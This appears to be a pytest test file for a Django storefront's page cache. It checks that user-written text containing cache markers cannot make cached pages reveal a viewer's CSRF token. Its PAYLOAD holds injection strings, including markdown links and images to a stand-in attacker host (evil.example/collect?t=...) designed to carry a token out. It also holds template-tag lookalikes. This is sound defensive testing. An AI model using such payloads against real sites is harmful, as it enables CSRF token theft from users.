"""No user text can make a cached page carry a viewer's CSRF token (or anything else).

Cached pages mark their per-person parts while they render (core.pagecache): markers
hold a nonce made for one render, which never leaves the server. Here every field of
user text that reaches a cached page holds every marker the page cache uses or ever used
— and lookalikes of the current ones — and each page is fetched by a visitor and by a
signed-in fan, on a miss and on a hit. The text must show as the literal text it is,
and the viewer's token must appear only in the page's own forms and htmx header.
"""

import re

import pytest
from django.core.cache import cache
from django.test import Client, RequestFactory
from django.urls import reverse

from core import pagecache
from core.rich_text import markdown_to_html
from creators.conversation import comment_create_on_post, comment_create_on_target
from creators.featuring import comment_feature
from creators.posts import PostAction, post_create
from reviews.ratings import ratings_repair
from reviews.services import review_feature
from shops import lists
from shops.models import TastemakerList
from shops.social_proof import order_set_shown
from tests.factories import (
    FanProfileFactory,
    ProductFactory,
    ReviewFactory,
    ShopFactory,
    UserFactory,
    paid_order_of,
)

pytestmark = [pytest.mark.page_cache, pytest.mark.django_db(transaction=True)]

# What the page cache uses or used as markers, and lookalikes of today's (a nonce, then
# ".c." for the CSRF token or ".<n>." for a hole).
MARKERS = [
    "__relcommerce_csrf_token__",
    "<!--relcommerce-hole:partials/site_nav.html-->",
    "0123456789abcdef01234567.c.",
    "0123456789abcdef01234567.0.",
    "{% csrf_token %}",
    "{{ csrf_token }}",
]
SHORT = "x __relcommerce_csrf_token__ 0123456789abcdef01234567.c."
PAYLOAD = (
    " ".join(MARKERS)
    + " [click](https://evil.example/collect?t=__relcommerce_csrf_token__)"
    + " ![img](https://evil.example/i.png?t=0123456789abcdef01234567.c.)"
)
# Where a page legitimately carries the viewer's token.
TOKEN_PLACES = re.compile(
    r'name="csrfmiddlewaretoken" value="([A-Za-z0-9]{64})"|"X-CSRFToken": "([A-Za-z0-9]{64})"'
)


@pytest.fixture
def world():
    """One creator whose every public text holds the markers, with fans who wrote theirs."""
    shop = ShopFactory(
        creator__handle="ana_makes", creator__display_name=f"Ana {SHORT}"[:50], creator__bio=PAYLOAD
    )
    creator = shop.creator
    product = ProductFactory(
        shop=shop,
        title=f"Mug {SHORT}"[:120],
        description=PAYLOAD,
        description_html=markdown_to_html(PAYLOAD),
    )
    fan = UserFactory(name=f"Li {SHORT}"[:60])
    FanProfileFactory(user=fan)
    order_set_shown(order=paid_order_of(buyer=fan, product=product), buyer=fan, show=True)
    post = post_create(author=creator.user, body=PAYLOAD, action=PostAction.PUBLISH)
    comment = comment_create_on_post(author=fan, post=post, body=PAYLOAD)
    comment_feature(creator_user=creator.user, comment=comment, feature=True)
    comment_create_on_target(author=fan, target=product, owner=creator.user, body=PAYLOAD)
    review = ReviewFactory(product=product, author=fan, title=SHORT, body=PAYLOAD)
    ratings_repair()
    review_feature(creator_user=creator.user, review=review, feature=True)
    taste_list = lists.list_create(author=fan, title=f"List {SHORT}"[:80], description=PAYLOAD)
    for item in (product, *ProductFactory.create_batch(3)):
        lists.list_item_add(taste_list=taste_list, product=item, note=PAYLOAD[:280])
    lists.lists_set_featured(lists=TastemakerList.objects.all(), featured=True)
    return product


def pages(product) -> dict[str, str]:
    handle = product.shop.creator.handle
    return {
        "home": reverse("home"),
        "catalog": reverse("catalog"),
        "catalog search": reverse("catalog") + "?q=Mug",
        "creators": reverse("creators:list"),
        "creator page": reverse("creators:detail", args=[handle]),
        "product page": reverse("shops:product", args=[handle, product.slug]),
    }


def assert_only_the_pages_own_tokens(page: str, where: str) -> None:
    tokens = {token for pair in TOKEN_PLACES.findall(page) for token in pair if token}
    assert tokens, f"{where}: no form or htmx header carries a token"
    rest = TOKEN_PLACES.sub("", page)
    for token in tokens:
        assert token not in rest, f"{where}: the viewer's token is written outside a form"
    assert not re.search(r"[?=][A-Za-z0-9]{64}\b", rest), f"{where}: a token-like value leaks"
    for link in re.findall(r"evil\.example/collect\?t=[^\"'<\s]*", page):
        assert link.startswith("evil.example/collect?t=__relcommerce_csrf_token__"), where


@pytest.mark.parametrize("viewer", ["visitor", "fan"])
def test_markers_in_user_text_stay_literal_text_on_every_cached_page(world, viewer):
    client = Client(enforce_csrf_checks=True)
    if viewer == "fan":
        client.force_login(UserFactory())
    for name, url in pages(world).items():
        for visit in ("first", "replayed"):
            response = client.get(url)
            assert response.status_code == 200, f"{name} ({visit})"
            if visit == "replayed":
                assert response["X-Page-Cache"] == "hit", name
            page = response.content.decode()
            where = f"{name}, {viewer}, {visit}"
            assert_only_the_pages_own_tokens(page, where)
            assert "__relcommerce_csrf_token__" in page, where
            assert "0123456789abcdef01234567.c." in page, where


def test_markers_in_user_text_show_as_the_text_the_fan_wrote(world):
    product_page = Client().get(world.get_absolute_url()).content.decode()
    for marker in ("{% csrf_token %}", "{{ csrf_token }}", "0123456789abcdef01234567.0."):
        assert marker in product_page
    assert "&lt;!--relcommerce-hole:partials/site_nav.html--&gt;" in product_page
    creator_page = Client().get(reverse("creators:detail", args=["ana_makes"])).content.decode()
    assert "&lt;!--relcommerce-hole:partials/site_nav.html--&gt;" in creator_page  # the bio


def test_a_stored_page_holds_no_token_only_holes_where_tokens_go(world):
    url = world.get_absolute_url()
    client = Client()
    client.force_login(UserFactory())
    client.get(url)
    request = RequestFactory().get(url)
    entry = cache.get(pagecache._page_key(request))
    assert isinstance(entry, pagecache.PageEntry)
    assert pagecache.CSRF in entry.parts
    for part in entry.parts:
        if isinstance(part, str):
            assert not re.search(r'csrfmiddlewaretoken" value="[A-Za-z0-9]', part)
            assert not re.search(r'"X-CSRFToken": "[A-Za-z0-9]', part)
    holes = {part.name for part in entry.parts if isinstance(part, pagecache.Hole)}
    assert "partials/site_nav.html" in holes


def test_each_visitor_gets_their_own_token_in_every_form_of_a_replayed_page(world):
    url = world.get_absolute_url()
    seen = []
    for _ in range(3):
        client = Client(enforce_csrf_checks=True)
        page = client.get(url).content.decode()
        tokens = {token for pair in TOKEN_PLACES.findall(page) for token in pair if token}
        assert len(tokens) == 1  # one token per page, in every form and the htmx header
        seen.append(tokens.pop())
        assert client.cookies["csrftoken"].value
    assert len(set(seen)) == 3
